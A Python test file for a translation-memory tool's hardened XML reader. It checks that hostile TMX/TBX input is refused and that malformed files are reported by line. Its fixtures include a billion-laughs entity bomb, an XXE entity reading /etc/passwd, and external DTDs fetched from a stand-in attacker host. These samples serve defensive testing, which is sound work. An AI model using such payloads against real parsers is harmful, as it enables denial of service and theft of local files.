"""Tests of tm/formats/xmlsafe.py: hostile XML refused, malformed XML reported, streaming."""

import io

import pytest
from lxml import etree

from tm.errors import InvalidFile, UnsafeXML
from tm.formats import read_glossary, read_memory
from tm.formats.xmlsafe import MAX_PROLOG_BYTES, make_parser, stream_elements, xml_text

TU = '<tu><tuv xml:lang="en"><seg>{}</seg></tuv><tuv xml:lang="fr"><seg>x</seg></tuv></tu>'

BILLION_LAUGHS = (
    """<?xml version="1.0"?>
<!DOCTYPE tmx [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<tmx version="1.4"><header srclang="en"/><body>"""
    + TU.format("&lol9;")
    + "</body></tmx>"
)

XXE = (
    """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<tmx version="1.4"><header srclang="en"/><body>"""
    + TU.format("&xxe;")
    + "</body></tmx>"
)

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<tmx version="1.4"><header srclang="en"/><body/></tmx>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "http://attacker.invalid/tmx14.dtd">
<tmx version="1.4"><header srclang="en"/><body/></tmx>"""

PUBLIC_DTD = """<!DOCTYPE tmx PUBLIC "-//LISA//DTD TMX 1.4//EN" "tmx14.dtd">
<tmx version="1.4"><header srclang="en"/><body/></tmx>"""

BARE_DOCTYPE = """<?xml version="1.0"?><!-- a comment first --><!DOCTYPE tmx>
<tmx version="1.4"><header srclang="en"/><body/></tmx>"""

HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "xxe /etc/passwd": XXE,
    "parameter entity": PARAMETER_ENTITY,
    "external dtd": EXTERNAL_DTD,
    "public dtd": PUBLIC_DTD,
    "bare doctype": BARE_DOCTYPE,
}


def as_tbx(document: str) -> str:
    return document.replace("tmx", "martif").replace('<header srclang="en"/>', "")


@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_memory_is_refused(document: str) -> None:
    with pytest.raises(UnsafeXML, match="DTDs and entity declarations are not allowed"):
        list(read_memory(io.BytesIO(document.encode()), "tmx"))


@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_glossary_is_refused(document: str) -> None:
    with pytest.raises(UnsafeXML, match="not allowed in memory or glossary files"):
        list(read_glossary(io.BytesIO(as_tbx(document).encode()), "tbx", "en", "fr"))


def test_doctype_is_refused_before_the_file_is_read_to_the_end() -> None:
    """A DOCTYPE followed by an endless body fails at once, not after reading it all."""
    read: list[int] = []

    class Endless(io.RawIOBase):
        def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
            chunk = b"<!DOCTYPE tmx [<!ENTITY a 'b'>]><tmx>" if not read else b" " * len(buffer)
            chunk = chunk[: len(buffer)]
            buffer[: len(chunk)] = chunk
            read.append(len(chunk))
            return len(chunk)

        def readable(self) -> bool:
            return True

    with pytest.raises(UnsafeXML):
        list(read_memory(io.BufferedReader(Endless()), "tmx"))
    assert sum(read) < 1024 * 1024


NOT_EXPECTED = [
    # (bytes, expected words in the message)
    (b"", "expected a TMX file"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x01", "expected a TMX file, but this is not XML"),
    (b"source,target\nhello,bonjour\n", "not XML"),
    (b'<martif type="TBX"><text><body/></text></martif>', "found a <martif> document"),
    (b"<html><body>hi</body></html>", "root element <tmx>"),
    (b"   <!-- only a comment -->  ", "expected a TMX file, but this is not XML"),
]


@pytest.mark.parametrize(("data", "message"), NOT_EXPECTED)
def test_not_a_tmx_file(data: bytes, message: str) -> None:
    with pytest.raises(InvalidFile, match=message):
        list(read_memory(io.BytesIO(data), "tmx"))


MALFORMED = [
    # (document, words in the message, line)
    ('<tmx version="1.4">\n<header srclang="en"/>\n<body>\n<tu>\n</body>\n</tmx>', "mismatch", 5),
    ('<tmx version="1.4">\n<body>\n' + TU.format("a & b") + "\n</body></tmx>", "EntityRef", 3),
    (
        "<tmx><body>\n\n" + TU.format("&undeclared;") + "</body></tmx>",
        "'undeclared' not defined",
        3,
    ),
    ('<tmx version="1.4"><body>\n\n' + TU.format("x"), "Premature end of data", 3),
]


@pytest.mark.parametrize(("document", "message", "line"), MALFORMED)
def test_malformed_xml_names_the_line(document: str, message: str, line: int) -> None:
    with pytest.raises(InvalidFile, match=f"not well-formed XML: .*{message}.*line {line}"):
        list(read_memory(io.BytesIO(document.encode()), "tmx"))


def test_wrong_encoding_is_invalid() -> None:
    document = '<?xml version="1.0" encoding="UTF-8"?>\n<tmx><body>\n' + TU.format("café")
    with pytest.raises(InvalidFile, match="line 3"):
        list(read_memory(io.BytesIO((document + "</body></tmx>").encode("latin-1")), "tmx"))


def test_other_encodings_declared_in_the_file_are_read() -> None:
    document = '<?xml version="1.0" encoding="UTF-16"?>\n<tmx><body>' + TU.format("café")
    units = list(read_memory(io.BytesIO((document + "</body></tmx>").encode("utf-16")), "tmx"))
    assert units[0].source == "café"


def test_prolog_without_a_root_is_bounded() -> None:
    padding = b"<!--" + b"x" * (2 * MAX_PROLOG_BYTES) + b"-->"
    with pytest.raises(InvalidFile, match="no XML root element"):
        list(read_memory(io.BytesIO(padding + b"<tmx/>"), "tmx"))


def test_stream_elements_frees_what_was_handled() -> None:
    body = "".join(f'<tu tuid="{i}"><tuv/></tu>' for i in range(1000))
    stream = io.BytesIO(f"<tmx><header/><body>{body}</body></tmx>".encode())
    seen = 0
    for element in stream_elements(stream, kind="TMX", roots=("tmx",), tags=("tu",)):
        # Only the TU handled just before is still in the tree, and it was emptied.
        earlier = list(element.itersiblings(preceding=True))
        assert len(earlier) <= 1
        assert all(len(tu) == 0 and not tu.attrib for tu in earlier)
        assert len(element) == 1
        seen += 1
    assert seen == 1000


def test_safe_parser_does_not_expand_entities() -> None:
    parser = make_parser()
    assert parser is not make_parser()  # one per use: lxml parsers are not thread-safe
    element = etree.fromstring("<ph>&lt;b&gt;</ph>", parser)
    assert element.text == "<b>"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain", "plain"),
        ("tab\tnewline\ncr\r", "tab\tnewline\ncr\r"),
        ("bell\x07 null\x00 vt\x0b", "bell null vt"),
        ("emoji 🙂 and \ufffe", "emoji 🙂 and "),
    ],
)
def test_xml_text(text: str, expected: str) -> None:
    assert xml_text(text) == expected
